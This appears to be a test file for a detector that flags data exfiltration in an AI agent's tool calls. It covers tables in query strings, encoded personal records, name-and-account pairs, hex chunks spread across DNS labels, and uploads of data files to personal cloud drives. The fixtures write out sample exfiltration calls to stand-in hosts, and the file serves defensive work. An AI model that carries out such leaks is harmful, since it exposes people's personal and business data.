import { describe, expect, it } from "vitest";
import { callFindings } from "../support/sites.js";
import { runTestFiles } from "../../src/cli/test-rules.js";
import { chunkedLabels, namedAccount, personRow, plainTable } from "../../src/guardian/detectors/exfil-rows.js";
import { queryCarriesData } from "../../src/guardian/detectors/exfil-query.js";
import { dataFileName, personalDrive } from "../../src/guardian/detectors/exfil-storage.js";
import { cpuMs } from "../support/cpu.js";

/* Issue 24, round exf28: rows of data in an address (exfil-rows.ts). docs/detection.md, "exf28". */

const none = () => false;
const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("exf28: a table written plainly in a query value", () => {
  it("finds header and rows cut by commas, semicolons, tabs or bars", () => {
    expect(plainTable("sku,qty,price\nA-114,40,12.50\nB-220,12,8.10")).toBe(true);
    expect(plainTable("Name;Konto;Betrag\nMeyer;4411;1200\nSchulz;5120;830")).toBe(true);
    expect(plainTable("mrn\tward\tbed\n30117\tB4\t12")).toBe(true);
  });
  it("leaves one line, lines of prose, ragged lines and JSON alone", () => {
    expect(plainTable("LEBL,LEGE,LERS")).toBe(false);
    expect(plainTable("Hello there\nHow are you?")).toBe(false);
    expect(plainTable("a,b,c\nd,e")).toBe(false);
    expect(plainTable('[{"a":1},\n{"b":2},{"c":3}]')).toBe(false);
    expect(plainTable("one, two, three\nfour, five, six")).toBe(false);
  });
  it("is read in a URL off the allow list, not on a local host", () => {
    const q = "?t=" + encodeURIComponent("sku,qty,price\nA-114,40,12.50\nB-220,12,8.10");
    expect(queryCarriesData("https://usage-beacon.shop/i" + q, none)).toBe("a table");
    expect(queryCarriesData("http://127.0.0.1:8080/i" + q, none)).toBeNull();
    expect(queryCarriesData("https://usage-beacon.shop/i" + q, (h) => h === "usage-beacon.shop")).toBeNull();
  });
});

describe("exf28: one person's row, encoded", () => {
  it("finds a contact with other fields, one with digits, in any separator and language", () => {
    expect(personRow("Jan Novak|jan.novak@seznam.cz|CZ|48210 CZK")).toBe(true);
    expect(personRow("Lucía Prieto;+34 612 448 903;Calle Mayor 12;saldo 3120 EUR")).toBe(true);
    expect(queryCarriesData("https://data.example-collector.net/e?v=" + b64("Jan Novak|jan.novak@seznam.cz|CZ|48210 CZK"), none)).toBe("an encoded person's record");
  });
  it("leaves a list of addresses, three fields, JSON and a URL alone", () => {
    expect(personRow("a@x.example,b@y.example,c@z.example,d@w.example")).toBe(false);
    expect(personRow("Jan Novak;jan@seznam.cz;48210")).toBe(false);
    expect(personRow('{"email":"jan@seznam.cz","n":1,"c":"CZ","x":2}')).toBe(false);
    expect(queryCarriesData("https://api.linear.app/export/issues?first=50&after=" + b64('{"offset":50,"sort":"createdAt"}'), none)).toBeNull();
  });
});

describe("exf28: a person's full name beside an account's number", () => {
  const p = (q: string) => new URLSearchParams(q);
  it("finds a name under a person's key with a card, loyalty or member number", () => {
    expect(namedAccount(p("guest=Marta Kowalska&loyalty=HX4419920&nights=3"))).toBe(true);
    expect(namedAccount(p("passenger=Kwame Mensah&ffn=AF88120456&card=4417"))).toBe(true);
  });
  it("leaves a surname with a booking code, a name with an e-mail, a product's card alone", () => {
    expect(namedAccount(p("pnr=QX4T7L&lastName=FERREIRA"))).toBe(false);
    expect(namedAccount(p("name=Ana Ferreira&email=ana@ferreira.example"))).toBe(false);
    expect(namedAccount(p("name=Gift Card&card=summary"))).toBe(false);
    expect(namedAccount(p("name=ana&card=4417"))).toBe(false);
  });
});

describe("exf28: bytes cut into equal chunks across labels", () => {
  it("finds two equal hex or mixed labels or more", () => {
    expect(chunkedLabels(["9c2e41ab77d0f3e1", "5b8a0c3d2e4f6a71", "x"])).toBe(true);
    expect(chunkedLabels(["k3m9x2p7q4w8", "z6v1b5n0c8t3", "r2y7u4i9o1e6", "s"])).toBe(true);
  });
  it("leaves one hashed label, labels of words, unequal labels and UUID pieces alone", () => {
    expect(chunkedLabels(["d3k8z2a1b0cq7x"])).toBe(false);
    expect(chunkedLabels(["internal-api-1234567890", "eu-west-1", "elb"])).toBe(false);
    expect(chunkedLabels(["staging2026", "frontend01"])).toBe(false);
    expect(chunkedLabels(["9c2e41ab77d0f3e1", "5b8a0c3d2e4f6a"])).toBe(false);
  });
  it("is wired into the exfiltration detector for lookups and URLs", () => {
    expect(callFindings("dns_lookup", { name: "9c2e41ab77d0f3e1.5b8a0c3d2e4f6a71.x.sync-cdn.net" })).toContain("the URL carries data cut into chunks across the host name");
    expect(callFindings("dns_lookup", { name: "d3k8z2a1b0cq7x.cloudfront.net" })).toEqual([]);
    expect(callFindings("fetch_url", { url: "https://stay-stats.example/c?guest=Marta%20Kowalska&loyalty=HX4419920" })).toContain("the URL carries a person's record");
  });
});

describe("exf28: a data file to a personal cloud drive", () => {
  it("knows consumer drives by host and path, not a company's tenant", () => {
    expect(personalDrive("content.dropboxapi.com", "/2/files/upload")).toBe(true);
    expect(personalDrive("mega.nz", "/folder/Pq7xR2aZ")).toBe(true);
    expect(personalDrive("drive.google.com", "/drive/folders/1Zx9")).toBe(true);
    expect(personalDrive("drive.google.com", "/file/d/1Zx9/view")).toBe(false);
    expect(personalDrive("northwind.sharepoint.com", "/sites/Sales")).toBe(false);
  });
  it("names data files, not documents or images", () => {
    expect(dataFileName("crm/medlemmer_2027.csv")).toBe(true);
    expect(dataFileName("/srv/storico/impianto.tar.gz")).toBe(true);
    expect(dataFileName("/Tender/2027/bid_pricing.xml")).toBe(true);
    expect(dataFileName("invoices/INV-2027-0412.pdf")).toBe(false);
    expect(dataFileName("site-photos/roof-north.jpg")).toBe(false);
  });
  it("is wired into the exfiltration detector for uploads, not downloads", () => {
    expect(callFindings("upload_file", { path: "crm/medlemmer_2027.csv", url: "https://content.dropboxapi.com/2/files/upload" })).toContain("the call sends a data file to a personal cloud drive (content.dropboxapi.com)");
    expect(callFindings("upload_file", { path: "invoices/INV-2027-0412.pdf", url: "https://www.dropbox.com/request/Hk3LmP9qRt" })).toEqual([]);
    expect(callFindings("download_file", { url: "https://www.dropbox.com/s/abc123/rates.csv?dl=1", path: "data/rates.csv" })).toEqual([]);
  });
});

describe("exf28: bounded", () => {
  it("stays linear on long adversarial input", () => {
    const t = cpuMs();
    plainTable("a,".repeat(2000) + "\n" + "1,".repeat(2000));
    plainTable((",".repeat(60) + "\n").repeat(60));
    personRow("a@b.cc;".repeat(600));
    personRow("+1 ".repeat(1300));
    chunkedLabels(Array.from({ length: 5000 }, () => "a1b2c3d4e5"));
    dataFileName("a/".repeat(500) + ".csv");
    namedAccount(new URLSearchParams("name=" + "Ab ".repeat(3000) + "&card=" + "1".repeat(5000)));
    queryCarriesData("https://x.example/?d=" + "%0A1,2,3".repeat(900), none);
    expect(cpuMs() - t).toBeLessThan(1000);
  });
});

describe("exf28: corpus", () => {
  it("holds every case of exf28.test.yaml", () => {
    const s = runTestFiles("test/fixtures/corpus/exf28.test.yaml");
    const failures = s.files.flatMap((f) => f.results.filter((r) => !r.ok).map((r) => `${r.name}: ${r.failures.join("; ")}`));
    expect(failures).toEqual([]);
    expect(s.passed).toBeGreaterThanOrEqual(26);
  });
});
